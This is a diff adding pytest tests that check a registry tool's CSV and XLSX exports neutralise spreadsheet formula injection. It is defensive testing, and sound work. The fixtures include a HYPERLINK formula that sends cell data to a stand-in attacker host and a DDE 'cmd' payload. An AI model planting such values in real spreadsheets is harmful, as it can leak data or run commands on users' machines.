@@ -2,7 +2,14 @@
 
 from __future__ import annotations
 
+import csv
 import datetime as dt
+import io
+import json
+import subprocess
+import sys
+import zipfile
+from pathlib import Path
 
 import pytest
 
@@ -115,3 +122,109 @@ def test_write_replaces_existing_file(tmp_path):
     write_table(path, COLUMNS, ROWS[:1])
     assert len(read_table(path)[1]) == 1
     assert [p.name for p in tmp_path.iterdir()] == ["r.csv"]  # no temporary file left behind
+
+
+# --------------------------------------------------------------------------- formula injection
+
+DANGEROUS = ['=HYPERLINK("http://evil.example","点我")', "@SUM(A1)", "+1", "-2+3", "\t=1+1", "\r=1+1"]
+COLS = [("v", "值")]
+
+
+def _csv_rows(path) -> list[list[str]]:
+    """The raw cells of a CSV file, as a spreadsheet program gets them (no unquoting of ours)."""
+    text = path.read_bytes().decode("utf-8-sig")
+    return list(csv.reader(io.StringIO(text, newline="")))
+
+
+def _csv_cells(path) -> list[str]:
+    return [row[0] for row in _csv_rows(path)[1:]]
+
+
+@pytest.mark.parametrize("value", DANGEROUS)
+def test_csv_neutralises_formula_prefixes(tmp_path, value):
+    path = write_table(tmp_path / "x.csv", COLS, [{"v": value}])
+    cells = _csv_cells(path)
+    assert cells == ["'" + value]  # what Excel/WPS sees: text starting with a quote, never a formula
+    _, rows = read_table(path)
+    assert rows[0][1]["值"] == value.strip()  # our own export reads back as it was (whitespace stripped as always)
+
+
+@pytest.mark.parametrize("value", DANGEROUS)
+def test_xlsx_keeps_formula_prefixes_as_text(tmp_path, value):
+    from openpyxl import load_workbook
+
+    path = write_table(tmp_path / "x.xlsx", COLS, [{"v": value}])
+    cell = load_workbook(path).worksheets[0]["A2"]
+    assert cell.data_type == "s"
+    assert cell.value == value.replace("\r", "\n")  # unchanged (XML turns a CR into LF), no quote added
+    with zipfile.ZipFile(path) as zf:
+        assert b"<f>" not in zf.read("xl/worksheets/sheet1.xml")
+
+
+def test_ordinary_text_and_numbers_untouched(tmp_path):
+    rows = [
+        {"v": "张三"}, {"v": "a=b"}, {"v": " 前导空格"}, {"v": "'已有引号"}, {"v": "13800138000"},
+        {"v": -5.0}, {"v": -3}, {"v": 0}, {"v": dt.date(2024, 8, 1)},
+    ]
+    csv_path = write_table(tmp_path / "x.csv", COLS, rows)
+    assert _csv_cells(csv_path) == ["张三", "a=b", " 前导空格", "'已有引号", "13800138000", "-5.0", "-3", "0", "2024-08-01"]
+    _, back = read_table(csv_path)
+    assert [r["值"] for _, r in back][:5] == ["张三", "a=b", "前导空格", "'已有引号", "13800138000"]
+
+    from openpyxl import load_workbook
+
+    xlsx_path = write_table(tmp_path / "x.xlsx", COLS, rows)
+    cells = load_workbook(xlsx_path).worksheets[0]["A"][1:]
+    assert [c.value for c in cells[:5]] == ["张三", "a=b", " 前导空格", "'已有引号", "13800138000"]
+    assert all(c.data_type == "s" for c in cells[:5])
+    assert [(c.value, c.data_type) for c in cells[5:8]] == [(-5.0, "n"), (-3, "n"), (0, "n")]
+
+
+def test_csv_round_trip_does_not_grow_quotes(tmp_path):
+    value = "=1+1"
+    path = tmp_path / "x.csv"
+    for _ in range(3):
+        write_table(path, COLS, [{"v": value}])
+        value = read_table(path)[1][0][1]["值"]
+    assert value == "=1+1" and _csv_cells(path) == ["'=1+1"]
+
+
+def test_station_export_neutralises_synced_text(tmp_path):
+    """End to end through the real ``station-node`` console script: hostile text
+    in a veteran's name, address and note exports as text, never a formula."""
+    from openpyxl import load_workbook
+
+    from sync.domain import id_number_check_digit
+
+    exe = Path(sys.executable).parent / "station-node"
+    if not exe.exists():
+        pytest.skip("console script not installed next to this interpreter")
+    home = tmp_path / "st"
+
+    def call(*args: str) -> str:
+        proc = subprocess.run([str(exe), *args, "--home", str(home)], capture_output=True, text=True, timeout=60,
+                              stdin=subprocess.DEVNULL)
+        assert proc.returncode == 0, proc.stderr
+        return proc.stdout
+
+    name, address, note = '=HYPERLINK("http://evil.example/?q="&A1,"点此查看")', "@SUM(A1:A9)", "-2+3+cmd|' /C calc'!A0"
+    body = "44090219600101001"
+    call("init", "--station", "440902001", "--offline")
+    call("veteran", "add", "--id-number", body + id_number_check_digit(body), "--name", name,
+         "--area", "440902001001", "--set", f"住址={address}", "--set", f"备注={note}")
+
+    call("export", str(tmp_path / "名册.csv"))
+    header, row = _csv_rows(tmp_path / "名册.csv")
+    cell = dict(zip(header, row))
+    assert (cell["姓名"], cell["住址"], cell["备注"]) == ("'" + name, "'" + address, "'" + note)
+
+    call("export", str(tmp_path / "名册.xlsx"))
+    ws = load_workbook(tmp_path / "名册.xlsx").worksheets[0]
+    headings = [c.value for c in ws[1]]
+    cells = {h: ws.cell(row=2, column=i + 1) for i, h in enumerate(headings)}
+    for heading, value in (("姓名", name), ("住址", address), ("备注", note)):
+        assert cells[heading].data_type == "s" and cells[heading].value == value
+
+    # the export re-imports as unchanged: no quote grows on the way back
+    result = json.loads(call("import", str(tmp_path / "名册.csv"), "--json"))
+    assert (result["created"], result["updated"], result["unchanged"]) == (0, 0, 1), result
